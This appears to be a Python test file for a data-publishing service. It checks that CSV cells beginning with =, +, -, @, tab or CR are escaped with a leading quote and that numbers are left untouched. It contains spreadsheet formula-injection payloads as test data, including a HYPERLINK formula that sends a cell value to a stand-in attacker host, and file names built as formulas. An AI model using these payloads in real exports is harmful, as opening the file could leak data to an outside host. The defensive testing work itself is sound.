"""Item 3: text cells that a spreadsheet would run are neutralised in published CSVs; numbers are
never touched."""

from __future__ import annotations

from tests.security.corpus import emr_pipeline, published_names, small_png
from tests.support.accounting import check_accounting
from tests.support.waiting import wait_until
from tests.system.conftest import MakeService

INJECTION_TABLE = (
    b"diagnosis,delta,score\n"
    b'"=HYPERLINK(""http://evil.example/?x=""&A1)",-1.23,1\n'
    b"+cmd,2.5,-3\n"
    b"-2+3,-0.5,0\n"
    b"@SUM(A1:A9),1e3,7\n"
    b'"\tTAB",0,0\n'
    b'"\rCR",4.5,2\n'
    b"-1.23,-1.23,5\n"
    b"plain,-7.25,-1\n"
)
# Sorted as published; text quoted, numbers bare; CR kept inside its quotes.
EXPECTED_RESULT = (
    '"diagnosis","n","mean_delta","mean_score","suppressed"\n'
    '"\'\tTAB",1,0.0,0.0,false\n'
    '"\'\rCR",1,4.5,2.0,false\n'
    '"\'+cmd",1,2.5,-3.0,false\n'
    '"\'-1.23",1,-1.23,5.0,false\n'
    '"\'-2+3",1,-0.5,0.0,false\n'
    '"\'=HYPERLINK(""http://evil.example/?x=""&A1)",1,-1.23,1.0,false\n'
    '"\'@SUM(A1:A9)",1,1000.0,7.0,false\n'
    '"plain",1,-7.25,-1.0,false\n'
)


def test_formula_cells_are_neutralised_numbers_are_not(make_service: MakeService) -> None:
    """Group labels starting with =, +, -, @, tab or CR get a leading quote (the label "-1.23"
    too: it is text); numeric means such as -1.23 are written as they are; an image named
    "=cmd.png" is listed as "'=cmd.png"."""
    # Real names published (hash_names = false): only then can a name be a formula.
    imaging = emr_pipeline("imaging", kind="imaging", hash_names=False)
    service = make_service([emr_pipeline(min_cell_size=1), imaging])
    service.start()
    dropped = {
        "formulas.csv": service.drop("emr", "formulas.csv", INJECTION_TABLE),
        "=cmd.png": service.drop("imaging", "=cmd.png", small_png(3)),
        "@x.png": service.drop("imaging", "@x.png", small_png(4)),
    }
    wait_until(lambda: published_names(service) == set(dropped), 30)
    assert service.stop() == 0

    (emr,) = service.manifests("emr")
    result = service.outbox / "emr" / emr["batch_id"] / "result.csv"
    assert result.read_bytes().decode() == EXPECTED_RESULT
    (imaging,) = service.manifests("imaging")
    lines = (service.outbox / "imaging" / imaging["batch_id"] / "result.csv").read_text()
    sources = sorted(line.split(",")[0] for line in lines.splitlines()[1:])
    assert sources == ['"\'=cmd.png"', '"\'@x.png"']  # neutralised, and quoted as all text
    check_accounting(service, dropped)
